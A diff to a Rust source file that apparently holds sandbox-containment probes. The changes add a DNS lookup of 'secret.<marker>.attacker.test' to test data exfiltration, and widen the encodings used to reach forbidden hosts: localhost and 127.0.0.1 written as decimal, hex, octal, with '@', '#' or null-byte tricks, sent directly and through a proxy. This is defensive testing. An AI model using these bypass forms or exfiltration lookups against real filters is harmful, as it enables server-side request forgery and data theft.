@@ -1,14 +1,14 @@
 //! Classes I to L: sockets of the host, ways out, names, and the forms in
 //! which a host that is not allowed can be asked for.
 
-use std::net::SocketAddr;
+use std::net::{Ipv4Addr, SocketAddr};
 
-use stockade_attempt::{Message, Order, Socket};
+use stockade_attempt::{Message, Named, Order, Socket};
 
 use super::strings;
 use crate::{
     field::{Field, text},
-    probe::{Judge, Probe},
+    probe::{In, Judge, Probe},
 };
 
 pub(super) const PROBES: &[Probe] = &[
@@ -174,7 +174,7 @@ pub(super) const PROBES: &[Probe] = &[
     Probe::standing(
         76,
         'K',
-        "ask for a name whose letters carry data",
+        "send a question for a name whose letters carry data",
         Judge::Host,
         |field, _| {
             let question = |_: &SocketAddr| {
@@ -192,12 +192,29 @@ pub(super) const PROBES: &[Probe] = &[
             ))]
         },
     ),
+    Probe::within(
+        226,
+        'K',
+        "have such a name looked up by whoever answers names",
+        In::Named,
+        Judge::Host,
+        |field, _| {
+            let name = format!("secret.{}.attacker.test", field.ground().marker());
+            let port = field
+                .listeners()
+                .streams()
+                .first()
+                .map_or(0, SocketAddr::port);
+            let text = format!("GET / HTTP/1.1\r\nHost: {name}\r\n\r\n");
+            vec![Order::Ask(vec![Named { name, port, text }])]
+        },
+    ),
     Probe::standing(
         77,
         'K',
         "have a proxy ask for a name that is not allowed",
         Judge::Host,
-        |field, _| both(field, |port| format!("localhost:{port}")),
+        |field, _| asked(field, |host| vec![host.to_owned()]),
     ),
     Probe::standing(
         81,
@@ -205,19 +222,18 @@ pub(super) const PROBES: &[Probe] = &[
         "write the name of a host in other ways",
         Judge::Host,
         |field, _| {
-            let forms = [
-                "LOCALHOST.",
-                "localhost..",
-                "%6cocalhost",
-                "ok.test@localhost",
-                "localhost#.ok.test",
-                "localhost%00.ok.test",
-                "ok.test\\@localhost",
-            ];
-            forms
-                .iter()
-                .flat_map(|form| both(field, move |port| format!("{form}:{port}")))
-                .collect()
+            asked(field, |host| {
+                let (first, rest) = host.split_at(1);
+                vec![
+                    format!("{}.", host.to_uppercase()),
+                    format!("{host}.."),
+                    format!("%{:02x}{rest}", first.as_bytes()[0]),
+                    format!("ok.test@{host}"),
+                    format!("{host}#.ok.test"),
+                    format!("{host}%00.ok.test"),
+                    format!("ok.test\\@{host}"),
+                ]
+            })
         },
     ),
     Probe::standing(
@@ -226,18 +242,21 @@ pub(super) const PROBES: &[Probe] = &[
         "write an address in other ways",
         Judge::Host,
         |field, _| {
-            let forms = [
-                "2130706433",
-                "0177.1",
-                "127.1",
-                "0x7f.1",
-                "[::ffff:127.0.0.1]",
-                "0",
-            ];
-            forms
-                .iter()
-                .flat_map(|form| both(field, move |port| format!("{form}:{port}")))
-                .collect()
+            asked(field, |host| {
+                let Ok(address) = host.parse::<Ipv4Addr>() else {
+                    return Vec::new();
+                };
+                let number = address.to_bits();
+                let [first, rest @ ..] = address.octets();
+                let rest = u32::from_be_bytes([0, rest[0], rest[1], rest[2]]);
+                vec![
+                    number.to_string(),
+                    format!("{number:#x}"),
+                    format!("0{first:o}.{rest}"),
+                    format!("{first:#x}.{rest}"),
+                    format!("[::ffff:{address}]"),
+                ]
+            })
         },
     ),
     Probe::standing(
@@ -260,7 +279,7 @@ pub(super) const PROBES: &[Probe] = &[
         'L',
         "send a plain request to a host that is not allowed",
         Judge::Host,
-        |field, _| both(field, |port| format!("127.0.0.1:{port}")),
+        |field, _| asked(field, |host| vec![host.to_owned()]),
     ),
 ];
 
@@ -296,20 +315,29 @@ fn requests(field: &Field, host: impl Fn(&SocketAddr) -> String) -> Vec<Message>
     })
 }
 
-/// The same host straight and through whatever proxy there is.
-fn both(field: &Field, host: impl Fn(u16) -> String) -> Vec<Order> {
-    let streams = field.listeners().streams();
-    let first = streams.first().copied();
-    let through = first.map(|to| {
-        let host = host(to.port());
-        format!("GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n")
-    });
-    let straight = first.map(|to| Message {
-        to,
-        text: format!("GET / HTTP/1.1\r\nHost: {}\r\n\r\n", host(to.port())),
-    });
-    vec![
-        Order::Connect(straight.into_iter().collect()),
-        Order::Proxied(through.into_iter().collect()),
-    ]
+/// Each listener of IPv4 asked for straight, and through whatever proxy there is,
+/// by the forms that `write` makes of its address, and of `localhost` where it is that.
+fn asked(field: &Field, write: impl Fn(&str) -> Vec<String>) -> Vec<Order> {
+    let mut straight = Vec::new();
+    let mut through = Vec::new();
+    for to in field.listeners().streams() {
+        let SocketAddr::V4(address) = to else {
+            continue;
+        };
+        let mut forms = write(&address.ip().to_string());
+        if address.ip().is_loopback() {
+            forms.extend(write("localhost"));
+        }
+        for form in forms {
+            let host = format!("{form}:{}", to.port());
+            straight.push(Message {
+                to,
+                text: format!("GET / HTTP/1.1\r\nHost: {host}\r\n\r\n"),
+            });
+            through.push(format!(
+                "GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n"
+            ));
+        }
+    }
+    vec![Order::Connect(straight), Order::Proxied(through)]
 }
